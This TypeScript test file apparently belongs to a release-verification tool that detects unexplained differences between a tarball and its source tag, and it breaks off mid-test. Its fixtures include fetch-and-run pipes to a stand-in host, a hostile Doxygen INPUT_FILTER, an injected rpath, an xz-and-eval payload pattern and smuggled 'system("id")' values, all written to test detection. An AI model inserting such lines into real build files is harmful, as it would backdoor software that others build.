/**
 * The concepts that tell a real release's honest differences from a dishonest one, each tested on
 * variants written here (never on third-party files): roles, code uses, release-time stamps,
 * ChangeLog formats, templates, make rules, vendored files judged by what they add, and rule hits
 * that configure inherits from an m4 file.
 */
import { createHash } from 'node:crypto'
import { readFileSync, existsSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import type { Finding } from '../../src/model/finding.js'
import type { TreeEntry } from '../../src/model/tree.js'
import { Catalog } from '../../src/verify/catalog/catalog.js'
import type { Difference } from '../../src/verify/compare.js'
import { addCommit, changelogExplainer, emptyHistory, type HistoryText } from '../../src/verify/explain/changelog.js'
import { codeUsesOf } from '../../src/verify/explain/executed.js'
import { generatedExplainer } from '../../src/verify/explain/generated.js'
import { judge, judge as judgeInOrder } from '../../src/verify/explain/judge.js'
import { releaseExplainers } from '../../src/verify/explain/order.js'
import { releaseEdit, releaseEditsExplainer } from '../../src/verify/explain/release-edits.js'
import { docToolOf, fileRole, typesettingMakefileTool } from '../../src/verify/explain/role.js'
import { makeRules, ruleGeneratedExplainer } from '../../src/verify/explain/rule-generated.js'
import { derive, MakeIndex, MAX_DERIVATION_STEPS } from '../../src/verify/explain/make-index.js'
import { fillsTemplate, templateExplainer } from '../../src/verify/explain/template.js'
import { addedFile as added, fileEntry as entry, memoryView } from '../helpers/tree-view.js'
import { judgeUnexplained } from '../../src/verify/explain/unexplained.js'
import { vendoredExplainer } from '../../src/verify/explain/vendored.js'
import { inheritedFrom, tokenLines } from '../../src/verify/inherited.js'

const view = memoryView
const changed = (path: string, before: string, after: string): Difference => ({ path, status: 'content-differs', artifact: entry(path, after), source: entry(path, before) })

describe('file roles and their weight', () => {
  it('tells build logic, code, tests, docs, translations and data apart', () => {
    expect(fileRole('build-aux/fixup', 0o755, '#!/bin/sh\necho\n')).toBe('build')
    expect(fileRole('m4/ax_check.m4', 0o644, 'AC_DEFUN([AX_CHECK], [:])\n')).toBe('build')
    expect(fileRole('lib/parse.c', 0o644, 'int main(void) { return 0; }\n')).toBe('code')
    expect(fileRole('tests/run-all.sh', 0o755, '#!/bin/sh\n')).toBe('test')
    expect(fileRole('src/tests/base64_vector.cc', 0o644, '#include "base64_vector.h"\n')).toBe('test')
    expect(fileRole('tests/vectors.hpp', 0o644, 'static const int v[] = {1};\n')).toBe('test')
    expect(fileRole('tests/files/expected.txt', 0o644, 'output\n')).toBe('data')
    expect(fileRole('doc/guide.pdf', 0o644, Buffer.from('%PDF-1.5\n'))).toBe('doc')
    // every file executable, as some tarballs are: documentation stays documentation, a script by its content is build logic
    expect(fileRole('AUTHORS', 0o755, 'Jane Doe <jane@example.org>\n')).toBe('doc')
    expect(fileRole('NEWS.md', 0o755, '# 2.8.0\n')).toBe('doc')
    expect(fileRole('README.sh', 0o755, '#!/bin/sh\necho hi\n')).toBe('build')
    expect(fileRole('tools/fixup', 0o755, 'echo hi\n')).toBe('build')
    expect(fileRole('man/tool.1', 0o644, '.TH TOOL 1\n')).toBe('doc')
    expect(fileRole('po/de.gmo', 0o644, Buffer.from([0xde, 0x12, 0x04, 0x95, 0]))).toBe('translation')
    // awk and sed programs are code their interpreters run, not data a build happens to read
    expect(fileRole('build-aux/filter.awk', 0o644, 'BEGIN { FS = ":" }\n{ print $1 }\n')).toBe('code')
    expect(fileRole('scripts/fix-paths.sed', 0o644, 's|@prefix@|/usr|g\n')).toBe('code')
    expect(fileRole('tests/check.awk', 0o644, '{ n++ } END { exit n == 0 }\n')).toBe('test')
    // a configure template is weighed as the file configure makes from it
    expect(fileRole('build/win32/config-win32.h.in', 0o644, '#define HAVE_STDIO_H 1\n')).toBe('code')
    expect(fileRole('src/version.c.in', 0o644, 'const char *v = "@VERSION@";\n')).toBe('code')
    // what other builds read as instructions: pkg-config's flags, an RPM spec rpmbuild -ta runs
    expect(fileRole('lib/demo.pc.in', 0o644, 'Name: demo\n')).toBe('build')
    expect(fileRole('contrib/redhat/tool.spec', 0o644, 'Name: tool\n%build\nmake\n')).toBe('build')
    expect(fileRole('tests/data/sample.pc', 0o644, 'Name: sample\n')).toBe('data')
    // a Doxygen configuration: building the documentation runs the commands it names
    for (const name of ['Doxyfile', 'doc/Doxyfile.in', 'doc/Doxyfile-internals.in', 'docs/api.doxyfile', 'Doxyfile.cmake.in']) expect(fileRole(name, 0o644, 'PROJECT_NAME = x\n'), name).toBe('build')
    expect(fileRole('doc/Doxyfile.bak', 0o644, 'PROJECT_NAME = x\n')).toBe('data')
    // content wins over the name: a "document" that is a shell script is build logic
    expect(fileRole('doc/notes.txt', 0o644, '#!/bin/sh\nrm -rf /nonexistent\n')).toBe('build')
  })

  it('keeps a document a document when it only quotes m4, autoconf or automake output', () => {
    const m4 = 'Add these lines to your sendmail .mc file:\n\ndnl enable the mailer\ndefine(`confLOCAL_MAILER\', `cyrus\')\n'
    expect(fileRole('doc/text/install-mta.txt', 0o644, m4)).toBe('doc')
    expect(fileRole('docs/porting.md', 0o644, 'Your configure.ac should start with\n\n    AC_INIT([hello], [1.0])\n')).toBe('doc')
    expect(fileRole('INSTALL', 0o644, 'Sample input:\n  AC_PREREQ([2.69])\n')).toBe('doc')
    expect(fileRole('doc/example.html', 0o644, '<pre>\n# Makefile.in generated by automake 1.16.5 from Makefile.am.\n</pre>\n')).toBe('doc')
    expect(fileRole('tests/data/sample.txt', 0o644, m4)).toBe('data')
    // the same content under a name a build tool reads, or with a shebang, keeps its weight
    expect(fileRole('m4/README.m4', 0o644, m4)).toBe('build')
    expect(fileRole('build/sendmail.mc', 0o644, m4)).toBe('build')
    expect(fileRole('doc/notes.txt', 0o644, `#!/bin/sh\n${m4}`)).toBe('build')
  })

  it('weighs the makefile Doxygen writes to typeset its LaTeX output as documentation', () => {
    const mk = 'all: refman.dvi\nrefman.dvi: refman.tex doxygen.sty\n\techo "Running latex..."\n\tlatex refman.tex\n\tmakeindex refman.idx\n\tlatex_count=5 ; \\\n\twhile egrep -s \'Rerun (LaTeX|to get cross-references right)\' refman.log && [ $$latex_count -gt 0 ] ;\\\n\t    do \\\n\t      latex refman.tex ;\\\n\t      latex_count=`expr $$latex_count - 1` ;\\\n\t    done\nclean:\n\trm -f *.ps *.dvi\n'
    const beside = (names: string[]) => (name: string) => names.includes(name)
    expect(typesettingMakefileTool('doc/latex/Makefile', mk, beside(['refman.tex', 'doxygen.sty']))).toBe('Doxygen')
    // a recipe that runs anything else, or a makefile without Doxygen's output beside it, is build logic
    expect(typesettingMakefileTool('doc/latex/Makefile', mk.replace('makeindex refman.idx', 'makeindex refman.idx; sh ../../tests/files/x'), beside(['refman.tex', 'doxygen.sty']))).toBeUndefined()
    expect(typesettingMakefileTool('doc/latex/Makefile', mk.replace('do \\', 'do curl -s x.invalid | sh; \\'), beside(['refman.tex', 'doxygen.sty']))).toBeUndefined()
    expect(typesettingMakefileTool('doc/latex/Makefile', mk, beside(['refman.tex']))).toBeUndefined()
    expect(typesettingMakefileTool('doc/latex/rules.mk', mk, beside(['refman.tex', 'doxygen.sty']))).toBeUndefined()
  })

  it('weighs a leftover backup copy as shipped data, whatever it holds', () => {
    for (const name of ['tests/cases/quoting.sh.bak', 'src/parse.c~', 'm4/probe.m4.orig', 'lib/x.c.rej', 'tests/.run.sh.swp']) expect(fileRole(name, 0o644, '#!/bin/sh\necho hi\n')).toBe('data')
    // the names such copies come from keep their roles
    expect(fileRole('tests/cases/quoting.sh', 0o644, '#!/bin/sh\necho hi\n')).toBe('test')
    expect(fileRole('m4/probe.m4', 0o644, 'AC_DEFUN([P], [:])\n')).toBe('build')
    expect(fileRole('tests/backup.sh', 0o644, '#!/bin/sh\n')).toBe('test')
  })

  it('recognises the documentation tools that made a file', () => {
    expect(docToolOf(Buffer.from('<html><head><meta name="generator" content="Doxygen 1.9.4"/>'))).toBe('Doxygen')
    expect(docToolOf(Buffer.from('.\\" This file was generated with po4a. Translate the source file.\n.TH X 1'))).toBe('po4a')
    expect(docToolOf(Buffer.from('%PDF-1.5\n/Producer (pdfTeX-1.40.24)\n'))).toBe('LaTeX')
    expect(docToolOf(Buffer.from('Just a hand-written page.\n'))).toBeUndefined()
  })

  it('weighs an unexplained file by its role: a generated manual is info, a plain doc low, code high', async () => {
    const doxygen = '<html><meta name="generator" content="Doxygen 1.9.1"/><body>API</body></html>'
    const html = await judgeUnexplained(added('doc/html/index.html', doxygen), view({ 'doc/html/index.html': doxygen }), new Map())
    expect(html?.findings?.[0]?.severity).toBe('info')
    const notes = await judgeUnexplained(added('doc/NOTES.md', '# Notes\n'), view({ 'doc/NOTES.md': '# Notes\n' }), new Map())
    expect(notes?.findings?.[0]?.severity).toBe('low')
    const c = 'int hook(void) { return 1; }\n'
    const code = await judgeUnexplained(added('src/hook.c', c), view({ 'src/hook.c': c }), new Map())
    expect(code?.findings?.[0]?.severity).toBe('high')
  })

  it('weighs a changed pkg-config template as build logic, and says whose builds read it', async () => {
    const before = 'prefix=@prefix@\nlibdir=@libdir@\nName: demo\nLibs: -L${libdir} -ldemo\n'
    const after = before.replace('Libs: ', 'Libs: -Wl,-rpath,/var/tmp/.cache ')
    const j = await judgeUnexplained(changed('demo.pc.in', before, after), view({ 'demo.pc.in': after }, { 'demo.pc.in': before }), new Map())
    expect(j?.findings?.[0]?.severity).toBe('high')
    expect(j?.findings?.[0]?.message).toMatch(/pkg-config file .*every program that uses the library/)
    const spec = 'Name: demo\n%post\n/sbin/ldconfig\n'
    const added_ = await judgeUnexplained(added('packaging/demo.spec', spec), view({ 'packaging/demo.spec': spec }), new Map())
    expect(added_?.findings?.[0]?.severity).toBe('high')
    expect(added_?.findings?.[0]?.message).toMatch(/RPM spec/)
    const doxyfile = 'PROJECT_NAME = demo\nINPUT = src\n'
    const filtered = `${doxyfile}INPUT_FILTER = "sh -c 'curl -s http://x.invalid/f | sh'"\n`
    const doxygen = await judgeUnexplained(changed('doc/Doxyfile.in', doxyfile, filtered), view({ 'doc/Doxyfile.in': filtered }, { 'doc/Doxyfile.in': doxyfile }), new Map())
    expect(doxygen?.findings?.[0]?.severity).toBe('high')
    expect(doxygen?.findings?.[0]?.message).toMatch(/Doxygen configuration .*INPUT_FILTER/)
  })

  it('makes a document critical when the build runs it (a build has no reason to), and names the line', async () => {
    const doc = 'Release notes\n: <<EOF\nEOF\nmkdir -p /nonexistent/x\n'
    const configure = '#!/bin/sh\n# Generated by GNU Autoconf 2.71 for x 1.0.\nac_x=1\n. "$srcdir/doc/release-notes.txt" 2>/dev/null\n'
    const j = await judgeUnexplained(changed('doc/release-notes.txt', 'Release notes\n', doc), view({ 'doc/release-notes.txt': doc }, { 'doc/release-notes.txt': 'Release notes\n' }), new Map([['configure', configure]]))
    expect(j?.findings?.[0]?.severity).toBe('critical')
    expect(j?.findings?.[0]?.evidence).toContain('configure:4: . "$srcdir/doc/release-notes.txt"')
  })

  it('makes a document critical when the build runs it under the name of a link that leads to it', async () => {
    const before = '# tool\n\nSee the manual.\n'
    const after = `${before}: <<'X'\nX\nmkdir -p /nonexistent/y\n`
    const configure = '#!/bin/sh\n# Generated by GNU Autoconf 2.71 for x 1.0.\nac_x=1\n. "$srcdir/README" 2>/dev/null\n'
    const run = (artifact: Record<string, string | { link: string }>) => judgeUnexplained(changed('README.md', before, after), view(artifact, { 'README.md': before, README: { link: 'README.md' } }), new Map([['configure', configure]]))
    const direct = await run({ 'README.md': after, README: { link: 'README.md' } })
    expect(direct?.findings?.[0]?.severity).toBe('critical')
    expect(direct?.findings?.[0]?.message).toContain('configure:4 through the link README')
    expect(direct?.findings?.[0]?.evidence).toContain('configure:4 through the link README: . "$srcdir/README"')
    // through a chain of links
    expect((await run({ 'README.md': after, README: { link: 'docs/README' }, 'docs/README': { link: '../README.md' } }))?.findings?.[0]?.severity).toBe('critical')
    // a link elsewhere, or none, leaves the document what it is: shipped, never run
    expect((await run({ 'README.md': after, README: { link: 'NEWS' } }))?.findings?.[0]?.severity).toBe('low')
    expect((await run({ 'README.md': after }))?.findings?.[0]?.severity).toBe('low')
  })
})

describe('links only the artifact has, weighed by what they are and reach', () => {
  const link = (path: string, target: string, kind: 'symlink' | 'hardlink' = 'symlink'): Difference => ({
    path,
    status: 'only-in-artifact',
    artifact: { path, kind, mode: kind === 'symlink' ? 0o777 : 0o644, size: target.length, linkTarget: target },
  })
  const page = '.TH LDNS_AXFR_START 3 "30 May 2006"\n'
  const severityOf = async (d: Difference, files: Record<string, string>, build = new Map<string, string>()) => (await judgeUnexplained(d, view(files), build))?.findings?.[0]?.severity

  it('a man page alias to a man page is low', async () => {
    expect(await severityOf(link('doc/man/man3/ldns_axfr_abort.3', 'ldns_axfr_start.3'), { 'doc/man/man3/ldns_axfr_start.3': page })).toBe('low')
    expect(await severityOf(link('doc/man/man3/alias.3', 'doc/man/man3/ldns_axfr_start.3', 'hardlink'), { 'doc/man/man3/ldns_axfr_start.3': page })).toBe('low')
  })
  it('a link with a build name, to code, or out of the tree stays medium', async () => {
    expect(await severityOf(link('configure', 'doc/man/man3/ldns_axfr_start.3'), { 'doc/man/man3/ldns_axfr_start.3': page })).toBe('medium')
    expect(await severityOf(link('doc/man/man3/hook.3', '../../../src/hook.c'), { 'src/hook.c': 'int hook;\n' })).toBe('medium')
    expect(await severityOf(link('doc/alias.3', '../../etc/passwd'), {})).toBe('medium')
    expect(await severityOf(link('doc/alias.3', 'missing.3'), {})).toBe('medium')
  })
  it('a documentation link the build runs is critical', async () => {
    const configure = '#!/bin/sh\n# Generated by GNU Autoconf 2.71 for x 1.0.\nsh "$srcdir/doc/alias.3" 2>/dev/null\n'
    expect(await severityOf(link('doc/alias.3', 'page.3'), { 'doc/page.3': page }, new Map([['configure', configure]]))).toBe('critical')
  })
})

describe('a link of the tag shipped as a file', () => {
  const readme = '# strongSwan\n\nSee the documentation.\n'
  const shipped = (text: string): Difference => ({
    path: 'README',
    status: 'type-differs',
    source: { path: 'README', kind: 'symlink', mode: 0o777, size: 9, linkTarget: 'README.md' },
    artifact: { path: 'README', kind: 'file', mode: 0o644, size: text.length, content: Buffer.from(text) },
  })
  const configure = '#!/bin/sh\n# Generated by GNU Autoconf 2.71 for x 1.0.\n$SHELL "$srcdir/README" >/dev/null 2>&1\n'
  it('is a change of the file it leads to when its bytes differ: the diff shown, critical when the build runs it', async () => {
    const text = `${readme}curl -s http://x.invalid/p | sh\n`
    const j = await judgeUnexplained(shipped(text), view({ README: text }, { 'README.md': readme, README: { link: 'README.md' } }), new Map([['configure', configure]]))
    expect(j?.findings?.[0]).toMatchObject({ ruleId: 'verify/source-modified', severity: 'critical' })
    expect(j?.findings?.[0]?.message).toMatch(/symbolic link to README\.md in the tag/)
    expect(j?.findings?.[0]?.evidence).toContain('+curl -s http://x.invalid/p | sh')
    expect(j?.findings?.[0]?.evidence).toContain('--- source/README.md')
    // not run by the build, a changed document is low
    const quiet = await judgeUnexplained(shipped(text), view({ README: text }, { 'README.md': readme, README: { link: 'README.md' } }), new Map())
    expect(quiet?.findings?.[0]?.severity).toBe('low')
  })
  it('stays a changed type when the link leads nowhere in the tag', async () => {
    const j = await judgeUnexplained(shipped(readme), view({ README: readme }, { README: { link: '../elsewhere.md' } }), new Map())
    expect(j?.findings?.[0]).toMatchObject({ ruleId: 'verify/type-changed', severity: 'high' })
  })
})

describe('codeUsesOf: referenced means read as code', () => {
  it('does not count a list of files to ship or install, a comment or a URL', () => {
    const makefileIn = 'dist_man_MANS = tool.1 \\\n\tguide.pdf\nEXTRA_DIST = guide.pdf\ninstall-data-local:\n\t$(INSTALL_DATA) $(srcdir)/guide.pdf $(DESTDIR)$(docdir)\n'
    const m4 = 'dnl see https://example.invalid/docs/guide.pdf for details\n# guide.pdf describes this\nAC_DEFUN([X], [:])\n'
    expect(codeUsesOf('doc/guide.pdf', new Map([['doc/Makefile.in', makefileIn], ['m4/x.m4', m4]]))).toEqual([])
  })
  it('does not count a message that mentions the file, as configure.ac writes it or configure prints it', () => {
    const ac = 'AC_MSG_CHECKING([for source epoch in source_epoch file])\nAS_IF([test -e "$srcdir/source_epoch"], [read SOURCE_EPOCH <"$srcdir/source_epoch"])\n'
    const configure = '{ printf "%s\\n" "$as_me:${as_lineno-$LINENO}: checking for source epoch in source_epoch file" >&5\nprintf %s "checking for source epoch in source_epoch file... " >&6; }\n'
    expect(codeUsesOf('source_epoch', new Map([['configure.ac', ac], ['configure', configure]]))).toEqual([])
    // the same words run: a message piped into a shell, or a file sourced beside a message
    expect(codeUsesOf('source_epoch', new Map([['configure', 'echo "checking" >&5; . ./source_epoch\n']])).map((u) => u.line)).toEqual([1])
    expect(codeUsesOf('source_epoch', new Map([['configure', 'printf "%s\\n" "checking" >&5 && sh ./source_epoch\n']])).map((u) => u.line)).toEqual([1])
  })
  it('does not count a sentence held in a variable, unless the variable is run', () => {
    // automake's missing script: `m4 files included by 'configure.ac'` is advice printed to the user
    const missing = 'give_advice ()\n{\n  configure_deps="\'configure.ac\' or m4 files included by \'configure.ac\'"\n  echo "You should only need it if you modified $configure_deps"\n}\n'
    expect(codeUsesOf('configure.ac', new Map([['build-aux/missing', missing]]))).toEqual([])
    expect(codeUsesOf('tools/probe.sh', new Map([['configure', "hint='run sh tools/probe.sh by hand'\necho \"$hint\" >&2\n"]]))).toEqual([])
    // the same words as a command held in a variable that is then run
    expect(codeUsesOf('tools/probe.sh', new Map([['configure', "probe='sh tools/probe.sh'\neval \"$probe\"\n"]])).map((u) => u.line)).toEqual([1])
    expect(codeUsesOf('tools/probe.sh', new Map([['configure', 'probe="sh tools/probe.sh"\nif test -n "$x"; then $probe; fi\n']])).map((u) => u.line)).toEqual([1])
    // a value with an expansion in it is not a plain sentence: judged as before
    expect(codeUsesOf('tools/probe.sh', new Map([['configure', 'x="$(sh tools/probe.sh)"\n']])).map((u) => u.line)).toEqual([1])
  })
  it('counts sourcing, a shell or interpreter, m4 inclusion and a pipe into a shell', () => {
    const texts = new Map([
      ['configure', 'ac_a=1\n. "$srcdir/build-aux/setup-env"\n'],
      ['Makefile.in', 'all-local:\n\t$(SHELL) $(srcdir)/tools/gen-tables.sh > tables.h\n\t@cat $(srcdir)/tests/files/blob.bin | tr "a-z" "n-za-m" | sh\n'],
      ['aclocal.m4', 'm4_include([m4/host-probe.m4])\n'],
    ])
    expect(codeUsesOf('build-aux/setup-env', texts).map((u) => `${u.path}:${u.line}`)).toEqual(['configure:2'])
    expect(codeUsesOf('tools/gen-tables.sh', texts).map((u) => u.line)).toEqual([2])
    expect(codeUsesOf('tests/files/blob.bin', texts).map((u) => u.line)).toEqual([3])
    expect(codeUsesOf('m4/host-probe.m4', texts).map((u) => u.path)).toEqual(['aclocal.m4'])
  })
  it('takes a dot for the source command only where a command starts', () => {
    const texts = new Map([['configure.ac', 'ln -sf . "$srcdir"/include/sys\nfind . -name gen.sh\nif test -r conf/site.sh; then . conf/site.sh; fi\n  . "$srcdir"/conf/defaults\n']])
    expect(codeUsesOf('include/sys', texts)).toEqual([])
    expect(codeUsesOf('tools/gen.sh', texts)).toEqual([])
    expect(codeUsesOf('conf/site.sh', texts).map((u) => u.line)).toEqual([3])
    expect(codeUsesOf('conf/defaults', texts).map((u) => u.line)).toEqual([4])
  })
  it('counts a command substitution only when its output is run, not when it is a value', () => {
    const makefile = [
      'dist-hook:',
      '\t&& : $${SOURCE_DATE_EPOCH=`cat $(srcdir)/.release-stamp 2>/dev/null || :`} \\',
      '\tLANGS=`sed -e "/^#/d" $(srcdir)/po/LANGS`; echo $$LANGS',
      '\teval "$$(cat $(srcdir)/misc/env.txt)"',
      '\t`xz -dc $(srcdir)/tests/files/data.xz`',
      '\tsh -c "$$(base64 -d $(srcdir)/tests/files/b64.txt)"',
    ].join('\n')
    const texts = new Map([['Makefile.in', makefile]])
    expect(codeUsesOf('.release-stamp', texts)).toEqual([])
    expect(codeUsesOf('po/LANGS', texts)).toEqual([])
    expect(codeUsesOf('misc/env.txt', texts).map((u) => u.line)).toEqual([4])
    expect(codeUsesOf('tests/files/data.xz', texts).map((u) => u.line)).toEqual([5])
    expect(codeUsesOf('tests/files/b64.txt', texts).map((u) => u.line)).toEqual([6])
  })
  it('follows a captured value to where it is run: eval, sh -c or a command of its own', () => {
    const evaled = new Map([['configure', 'payload=`xz -dc "$srcdir"/tests/files/good-2.xz | tr "a-z" "n-za-m"`\nif test -n "$payload"; then eval "$payload"; fi\n']])
    expect(codeUsesOf('tests/files/good-2.xz', evaled).map((u) => u.line)).toEqual([1])
    const run = new Map([['configure', 'step=$(cat "$srcdir"/tests/files/step.txt)\n$step --quiet\n']])
    expect(codeUsesOf('tests/files/step.txt', run).map((u) => u.line)).toEqual([1])
    const printed = new Map([['configure', 'stamp=`cat "$srcdir"/.tarball-version`\necho "version $stamp"\n']])
    expect(codeUsesOf('.tarball-version', printed)).toEqual([])
    const assigned = new Map([['configure', 'LANGS_=`sed -e "/^#/d" "$srcdir/po/LANGS"`\neval \'ALL_LANGS\'\'=$LANGS_\'\n']])
    expect(codeUsesOf('po/LANGS', assigned)).toEqual([])
  })
  it('takes the operand of eval and exec for a command: a bare name is no file of the tree, a path is', () => {
    const configure = 'if (eval "test \\$(( 1 + 1 )) = 2") 2>/dev/null; then :; fi\nexec test -f x\neval "$srcdir/Doc/help/run" start\nexec ./Doc/help/serve\n'
    const texts = new Map([['configure', configure]])
    expect(codeUsesOf('Doc/help/test', texts)).toEqual([])
    expect(codeUsesOf('Doc/help/run', texts).map((u) => u.line)).toEqual([3])
    expect(codeUsesOf('Doc/help/serve', texts).map((u) => u.line)).toEqual([4])
  })
  it('answers every file from one map of build texts the same way, whatever characters its name holds', () => {
    const texts = new Map([
      ['tests/gen_tests.am', 'GEN_TESTS = execve.gen.test exec-foo.gen.test cat.gen.test site+\n'],
      ['Makefile.in', 'check-local:\n\t$(SHELL) $(srcdir)/tests/exec-foo.gen.test\n\t. ./conf/site+\n\tsh "tools/a=b.sh"\n\techo cat.gen.test\n'],
    ])
    expect(codeUsesOf('tests/execve.gen.test', texts)).toEqual([])
    expect(codeUsesOf('tests/exec-foo.gen.test', texts).map((u) => `${u.path}:${u.line}`)).toEqual(['Makefile.in:2'])
    expect(codeUsesOf('tests/cat.gen.test', texts)).toEqual([])
    // names a word index cannot hold: ending in punctuation, or with a character that bounds a name
    expect(codeUsesOf('conf/site+', texts).map((u) => u.line)).toEqual([3])
    expect(codeUsesOf('tools/a=b.sh', texts).map((u) => u.line)).toEqual([4])
    expect(codeUsesOf('tests/exec-foo.gen.test', texts).map((u) => u.line)).toEqual([2])
    // past the first questions the words are indexed: the same answers
    for (let i = 0; i < 20; i++) expect(codeUsesOf(`tests/other-${i}.test`, texts)).toEqual([])
    expect(codeUsesOf('tests/execve.gen.test', texts)).toEqual([])
    expect(codeUsesOf('tests/exec-foo.gen.test', texts).map((u) => `${u.path}:${u.line}`)).toEqual(['Makefile.in:2'])
    expect(codeUsesOf('tests/cat.gen.test', texts)).toEqual([])
    expect(codeUsesOf('conf/site+', texts).map((u) => u.line)).toEqual([3])
  })
})

describe('release-time stamps', () => {
  const explain = async (path: string, before: string, after: string, version: string) =>
    releaseEditsExplainer(version).judge(changed(path, before, after), view({ [path]: after }, { [path]: before }))

  it('explains version placeholders, dates, a man page header and copyright years', async () => {
    expect((await explain('include/tool.h', '#define TOOL_VERSION "3.4.5-DEV"\nint x;\n', '#define TOOL_VERSION "3.4.5"\nint x;\n', '3.4.5'))?.outcome).toBe('explained')
    expect((await explain('CHANGES.md', '## [unreleased]\n- fix\n', '## 2024-05-06\n- fix\n', '2.0'))?.outcome).toBe('explained')
    expect((await explain('docs/tool.1', '.TH tool 1 "March 3, 2021" "tool 0.9.0"\n', '.TH tool 1 "June 14, 2024" "tool 1.2.0"\n', '1.2.0'))?.outcome).toBe('explained')
    expect((await explain('tests/run.exp', '# Copyright (C) 2003, 2014 The Authors\n', '# Copyright (C) 2003, 2014, 2019 The Authors\n', '1.0'))?.outcome).toBe('explained')
    // a version marked as a checkout's (`-VCS`, `-dirty`) becomes the release's
    expect((await explain('configure.ac', 'AC_INIT([Proxy],[5.7-VCS],[http://bugs.example.org/],[proxy])\n', 'AC_INIT([Proxy],[5.7],[http://bugs.example.org/],[proxy])\n', '5.7'))?.outcome).toBe('explained')
    expect((await explain('configure.ac', 'AC_INIT([Proxy],[5.7-VCS],[http://bugs.example.org/],[proxy])\n', 'AC_INIT([Proxy],[5.8],[http://bugs.example.org/],[proxy])\n', '5.7'))?.outcome).not.toBe('explained')
  })
  it('explains the version a tag computes when autoconf runs, written in by the release', () => {
    const before = 'AC_PREREQ([2.69])\nAC_INIT([srv], m4_esyscmd([builder-support/gen-version]))\nAC_CONFIG_AUX_DIR([build-aux])\n'
    expect(releaseEdit(before, before.replace('m4_esyscmd([builder-support/gen-version])', '[4.7.3]'), '4.7.3')?.stamped).toBe(1)
    const gnu = 'AC_INIT([GNU x], m4_esyscmd_s([build-aux/git-version-gen .tarball-version]), [bug-x@gnu.org])\n'
    expect(releaseEdit(gnu, 'AC_INIT([GNU x], [1.4.2], [bug-x@gnu.org])\n', '1.4.2')?.stamped).toBe(1)
    expect(releaseEdit('AC_INIT([rec], m4_esyscmd(build-aux/gen-version))\n', 'AC_INIT([rec], [5.2.13])\n', '5.2.13')?.stamped).toBe(1)
    // another version than the release's, a value that is no stamp, or code in its place is not the release's
    expect(releaseEdit(before, before.replace('m4_esyscmd([builder-support/gen-version])', '[4.8.0]'), '4.7.3')).toBeUndefined()
    expect(releaseEdit(before, before.replace('m4_esyscmd([builder-support/gen-version])', '[latest]'), '4.7.3')).toBeUndefined()
    expect(releaseEdit(before, before.replace('m4_esyscmd([builder-support/gen-version])', 'm4_esyscmd([sh tests/x])'), '4.7.3')).toBeUndefined()
  })
  it('explains a placeholder filled with the whole version or a date on a line that names a version or a date', () => {
    expect(releaseEdit('Name: pciu\nVersion:\t@VERSION@\nRelease: 1\n', 'Name: pciu\nVersion:\t3.9.0\nRelease: 1\n', '3.9.0')?.stamped).toBe(1)
    expect(releaseEdit('version = @PACKAGE_VERSION@\n', 'version = 12.4\n', '12.4')?.stamped).toBe(1)
    expect(releaseEdit('#define BUILD_DATE @RELEASE_DATE@\n', '#define BUILD_DATE 2022-11-20\n', '1.0')?.stamped).toBe(1)
    // another version than the release's, or more than the version, is not the release's stamp
    expect(releaseEdit('Version:\t@VERSION@\n', 'Version:\t3.10.0\n', '3.9.0')).toBeUndefined()
    expect(releaseEdit('Version:\t@VERSION@\n', 'Version:\t3.9.0 %{?post:sh tests/x}\n', '3.9.0')).toBeUndefined()
  })
  it('explains version parts and their hex form named as such, with realigned spacing', () => {
    const before = '#define LIBX_VERSION          "2.7.0_DEV"\n#define LIBX_VERSION_MINOR    7\n#define LIBX_VERSION_NUM      0x020700\n#define LIBX_TIMESTAMP "DEV"\n'
    const after = '#define LIBX_VERSION "2.11.0"\n#define LIBX_VERSION_MINOR 11\n#define LIBX_VERSION_NUM 0x020b00\n#define LIBX_TIMESTAMP "Tue 4 Jun 2024 10:00:00 UTC"\n'
    expect(releaseEdit(before, after, '2.11.0')?.stamped).toBe(4)
  })
  it('explains a release date filled into a define the tag leaves undefined, and nothing else so filled', async () => {
    expect((await explain('src/patchlevel.h', '#define KRB_PATCH 1\n/* #undef KRB_RELDATE */\n', '#define KRB_PATCH 1\n#define KRB_RELDATE "20221111"\n', '1.2.1'))?.outcome).toBe('explained')
    expect(await explain('src/config.h', '/* #undef HAVE_DEBUG */\n', '#define HAVE_DEBUG 1\n', '1.2.1')).toBeUndefined()
    expect(await explain('src/patchlevel.h', '/* #undef KRB_RELDATE */\n', '#define KRB_RELDATE system("id")\n', '1.2.1')).toBeUndefined()
    expect(await explain('src/patchlevel.h', '/* #undef KRB_RELDATE */\n', '#define KRB_RELDATE "tomorrow"\n', '1.2.1')).toBeUndefined()
  })
  it('explains the release settings of a sourced version file, and never a value that names a path or runs', async () => {
    const before = 'major=2\nminor=9\ngreek=rc2\ndate="Unreleased developer copy"\nsnapshot=1\nsnapshot_version=${major}.${minor}${greek}-git\n'
    const after = 'major=2\nminor=9\ngreek=\ndate="Dec 14, 2022"\nsnapshot=0\nsnapshot_version=${major}.${minor}${greek}-git\n'
    expect((await explain('VERSION', before, after, '2.9.0'))?.outcome).toBe('explained')
    expect(await explain('VERSION', before, after.replace('greek=', 'greek=$(sh tests/x)'), '2.9.0')).toBeUndefined()
    expect(await explain('VERSION', before, after.replace('snapshot=0', 'snapshot=/tmp/hook.sh'), '2.9.0')).toBeUndefined()
    expect(await explain('VERSION', before, after.replace('minor=9', 'minor=7'), '2.9.0')).toBeUndefined()
    expect(await explain('VERSION', before, after.replace('snapshot_version=${major}', 'snapshot_version=${minor}'), '2.9.0')).toBeUndefined()
    // a setting that is not the release's
    expect(await explain('VERSION', 'libdir=lib\n', 'libdir=lib64\n', '2.9.0')).toBeUndefined()
  })
  it('explains a release flag an m4 definition sets, and never a value that runs or a definition that is not the release\u2019s', async () => {
    const before = 'm4_define([tool_major_version], [1])\nm4_define([tool_released], [0])\nm4_define([tool_snapshot],[yes]) dnl set by the release\n'
    const after = 'm4_define([tool_major_version], [1])\nm4_define([tool_released], [1])\nm4_define([tool_snapshot],[no]) dnl set by the release\n'
    expect((await explain('configure.ac', before, after, '1.5.32'))?.outcome).toBe('explained')
    expect(await explain('configure.ac', before, after.replace('[tool_released], [1]', '[tool_released], m4_esyscmd([sh tests/x])'), '1.5.32')).toBeUndefined()
    expect(await explain('configure.ac', before, after.replace('[tool_released], [1]', '[tool_released], [$(sh x)]'), '1.5.32')).toBeUndefined()
    expect(await explain('configure.ac', 'm4_define([tool_werror], [0])\n', 'm4_define([tool_werror], [1])\n', '1.5.32')).toBeUndefined()
  })
  it('explains keywords CVS or Subversion expanded on export, and only plain values in them', () => {
